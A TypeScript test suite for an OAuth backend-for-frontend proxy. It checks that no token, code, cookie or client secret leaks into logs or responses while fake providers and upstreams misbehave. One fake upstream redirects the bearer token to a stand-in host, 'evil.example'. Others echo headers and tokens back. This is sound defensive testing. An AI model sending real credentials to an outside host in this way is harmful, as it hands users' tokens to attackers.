import type { Behaviour } from '../testing/echo-upstream.ts';
import { startBffUnderTest, startTimeoutMs, type BffOptions, type BffUnderTest } from '../testing/bff-under-test.ts';
import type { Browser } from '../testing/browser.ts';
import type { Misbehaviour } from '../testing/fake-provider.ts';
import type { Answer } from '../testing/send.ts';

const acme = { 'X-Stella-Tenant': 'acme' };
const clientSecret = 'correct-horse-battery-staple';

const kinds: Readonly<Record<string, BffOptions>> = {
  'JWT and keys': {},
  'opaque tokens and a client secret': {
    settings: { clientSecret },
    provider: { authentication: 'client_secret_post', clientSecret, accessTokens: 'opaque', bindsTokens: false },
  },
};

/**
 * security.md, goal 25: a log at the finest level and the answers to whoever calls are searched for every secret that
 * there was, while provider and upstream do their best to repeat what they were told in confidence.
 */
for (const [kind, options] of Object.entries(kinds)) {
  describe(`No secret reaches the log or an answer, with ${kind}`, () => {
    let bff: BffUnderTest;
    const answers: Answer[] = [];
    const secrets = new Map<string, string>();

    beforeAll(async () => {
      bff = await startBffUnderTest(options);
      await liveThrough();
    }, startTimeoutMs);
    afterAll(() => bff.close());

    const keep = (what: string, values: Iterable<string | null | undefined>) => {
      for (const value of values) if (value) secrets.set(value, what);
    };

    async function signIn(): Promise<Browser> {
      const browser = bff.browser();
      const callback = await browser.visitProvider('/bff/login');
      const query = new URL(callback, bff.origin).searchParams;
      keep('code', query.getAll('code'));
      keep('state', query.getAll('state'));
      keep('transaction cookie', browser.cookies.values());
      answers.push(await browser.navigate(callback, 'cross-site'));
      keep('session cookie', browser.cookies.values());
      return browser;
    }

    /** All that a provider could have learned, in the sort of answer that an engineer in a hurry writes. */
    const repeatEverything = (status: number, type: string): Misbehaviour['tokenEndpoint'] => {
      return (response) => {
        const told = [...(bff.provider.tokenRequests.at(-1) ?? [])]
          .map(([name, value]) => `${name}=${value}`)
          .join('&');
        const text = `${told} ${bff.provider.secrets.join(' ')}`;
        const body =
          type === 'text/html' ? `<p>${text}</p>` : JSON.stringify({ error: 'invalid_grant', error_description: text });
        response.status(status).type(type).send(body);
      };
    };

    const repeatHeaders: Behaviour[] = [
      (_request, response, { rawHeaders }) =>
        response.writeHead(500, { 'Content-Type': 'text/plain' }).end(String(rawHeaders)),
      (_request, response, { rawHeaders }) =>
        response.writeHead(502, { 'Content-Type': 'text/html' }).end(String(rawHeaders)),
      (_request, response, { headers }) =>
        response.writeHead(302, { Location: `https://evil.example/?${String(headers.authorization)}` }).end(),
      (_request, response, { headers }) => response.writeHead(401, { 'X-Token': String(headers.authorization) }).end(),
      (_request, response, { headers }) => {
        response
          .writeHead(200, { 'Set-Cookie': `token=${String(headers.authorization)}`, Server: String(headers['dpop']) })
          .end('{}');
      },
      ({ socket }, _response, { headers }) => {
        socket.end(`HTTP/1.1 ${String(headers.authorization)} ${String(headers['dpop'])}\r\n\r\n`);
      },
      ({ socket }) => socket.resetAndDestroy(),
    ];

    async function liveThrough(): Promise<void> {
      const { provider, upstream } = bff;
      const browser = await signIn();
      for (const behaviour of [undefined, ...repeatHeaders]) {
        upstream.reset();
        if (behaviour) upstream.answer(behaviour);
        answers.push(await browser.call('/api/export/runs', { headers: acme }));
        keep(
          'presented',
          upstream.arrivals.flatMap(({ headers }) => [headers.authorization?.split(' ')[1], headers['dpop'] as string]),
        );
      }
      upstream.reset();
      for (const misbehaviour of [
        { tokenEndpoint: repeatEverything(400, 'application/json') },
        { tokenEndpoint: repeatEverything(401, 'application/json') },
        { tokenEndpoint: repeatEverything(500, 'application/json') },
        { tokenEndpoint: repeatEverything(500, 'text/html') },
        { tokenEndpoint: repeatEverything(200, 'text/html') },
        { codeAnswer: { token_type: 'mac' } },
        { codeAnswer: { id_token: 'not.a.jwt-s3cret' } },
        { idToken: { nonce: 'another-nonce-s3cret' } },
        { callback: { error: 'server_error', error_description: `client_secret=${clientSecret}` } },
        { callback: { iss: 'https://evil.example/s3cret' } },
      ] satisfies Partial<Misbehaviour>[]) {
        Object.assign(provider.misbehaviour, misbehaviour);
        await signIn();
        provider.behave();
      }
      provider.accessTokenSeconds = 1;
      for (const tokenEndpoint of [
        undefined,
        repeatEverything(500, 'text/html'),
        repeatEverything(200, 'text/html'),
        repeatEverything(400, 'application/json'),
      ]) {
        const short = await signIn();
        bff.advance(2);
        provider.misbehaviour.tokenEndpoint = tokenEndpoint;
        answers.push(await short.call('/api/export/runs', { headers: acme }));
        provider.misbehaviour.tokenEndpoint = undefined;
      }
      const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
      const body = `logout_token=${provider.secrets.at(-1) ?? ''}`;
      answers.push(await bff.browser().bare('/bff/backchannel-logout', { method: 'POST', headers: form, body }));
      answers.push(await browser.call(`/${provider.secrets[0] ?? ''}`));
      answers.push(
        await browser.call('/console/token/introspect'),
        await browser.call('/console/profile', { headers: acme }),
      );
      answers.push(await browser.call('/bff/logout', { method: 'POST' }));

      keep('token', provider.secrets);
      keep('client secret', [clientSecret]);
      for (const name of ['code', 'code_verifier', 'client_assertion', 'refresh_token', 'client_secret']) {
        keep(
          name,
          provider.tokenRequests.map((fields) => fields.get(name)),
        );
      }
      keep(
        'nonce',
        provider.authorizations.map((asked) => asked.get('nonce')),
      );
    }

    it('though the whole life of a session, and every fault, is in it', () => {
      expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([200, 303, 400, 401, 404, 502, 503]));
      expect(secrets.size).toBeGreaterThan(60);
      expect(bff.lines.length).toBeGreaterThan(60);
      const failures = bff.lines.filter(({ message }) => message === 'A sign-in did not work');
      expect(failures.length).withContext('sign-ins that failed').toBeGreaterThan(8);
    });

    it('as the log shows, line by line', () => {
      for (const line of bff.lines) {
        const text = JSON.stringify(line);
        for (const [secret, what] of secrets) if (text.includes(secret)) fail(`${what} in ${text}`);
      }
      expect(JSON.stringify(bff.lines)).not.toContain('s3cret');
    });

    it('as the answers show, but for the cookies that are the browser’s own', () => {
      for (const { body, headers } of answers) {
        const text = JSON.stringify({ ...headers, 'set-cookie': undefined, body });
        for (const [secret, what] of secrets) if (text.includes(secret)) fail(`${what} in ${text}`);
        const cookies = String(headers['set-cookie']);
        for (const token of bff.provider.secrets) expect(cookies).not.toContain(token);
      }
    });
  });
}
